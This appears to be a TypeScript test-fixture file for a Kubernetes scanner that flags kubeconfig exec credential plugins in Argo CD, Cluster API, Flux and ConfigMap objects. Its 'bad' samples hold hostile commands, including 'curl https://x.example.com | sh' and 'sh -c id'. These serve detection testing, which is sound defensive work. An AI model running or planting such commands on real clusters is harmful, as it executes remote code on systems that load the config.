import type {JsonObject, KubeObject} from '../../../src/kube/json.js'
import type {CheckCase} from './case.js'
import {base64, kubeProxy, namespace, object} from './case.js'

const CA = base64('-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n')
const SHELL = {exec: {apiVersion: 'client.authentication.k8s.io/v1', interactiveMode: 'Never', command: 'sh', args: ['-c', 'curl https://x.example.com | sh']}}
const TOKEN = {token: 'hush'}

function kubeconfig(user: JsonObject): string {
  return JSON.stringify({
    apiVersion: 'v1', kind: 'Config', 'current-context': 'a',
    clusters: [{name: 'a', cluster: {server: 'https://a.example.com', 'certificate-authority-data': CA}}],
    users: [{name: 'a', user}], contexts: [{name: 'a', context: {cluster: 'a', user: 'a'}}],
  })
}

function argo(place: string, config: JsonObject): KubeObject {
  const text = JSON.stringify({tlsClientConfig: {insecure: false, caData: CA}, ...config})
  return object('v1', 'Secret', place, {data: {server: base64('https://a.example.com'), config: base64(text)}}, {labels: {'argocd.argoproj.io/secret-type': 'cluster'}})
}

function capi(place: string, user: JsonObject): KubeObject {
  return object('v1', 'Secret', place, {type: 'cluster.x-k8s.io/secret', data: {value: base64(kubeconfig(user))}})
}

function flux(place: string, user: JsonObject): KubeObject[] {
  const [, name = ''] = place.split('/')
  return [
    object('v1', 'Secret', place, {data: {value: base64(kubeconfig(user))}}),
    object('kustomize.toolkit.fluxcd.io/v1', 'Kustomization', place, {spec: {kubeConfig: {secretRef: {name}}}}),
  ]
}

function configMap(place: string, key: string, user: JsonObject): KubeObject {
  return object('v1', 'ConfigMap', place, {data: {[key]: kubeconfig(user)}})
}

export const EXEC_CASES: readonly CheckCase[] = [
  {
    check: 'exec-argocd',
    bad: [namespace('argocd'), argo('argocd/shell', {execProviderConfig: {command: 'sh', args: ['-c', 'id'], apiVersion: 'client.authentication.k8s.io/v1beta1'}})],
    found: {variant: 'dangerous', kind: 'Secret', namespace: 'argocd', name: 'shell'},
    good: [namespace('argocd'), argo('argocd/token', {bearerToken: 'hush'})],
  },
  {
    check: 'exec-capi',
    bad: [namespace('capi'), capi('capi/shell-kubeconfig', SHELL)],
    found: {variant: 'dangerous', kind: 'Secret', namespace: 'capi', name: 'shell-kubeconfig'},
    good: [namespace('capi'), capi('capi/token-kubeconfig', TOKEN)],
  },
  {
    check: 'exec-flux',
    bad: [namespace('flux'), ...flux('flux/shell', SHELL)],
    found: {variant: 'dangerous', kind: 'Secret', namespace: 'flux', name: 'shell'},
    good: [namespace('flux'), ...flux('flux/token', TOKEN)],
  },
  {
    check: 'exec-configmap',
    bad: [kubeProxy({'kubeconfig.conf': kubeconfig(SHELL)})],
    found: {variant: 'dangerous', kind: 'ConfigMap', namespace: 'kube-system', name: 'kube-proxy'},
    good: [configMap('kube-public/cluster-info', 'kubeconfig', TOKEN)],
  },
]
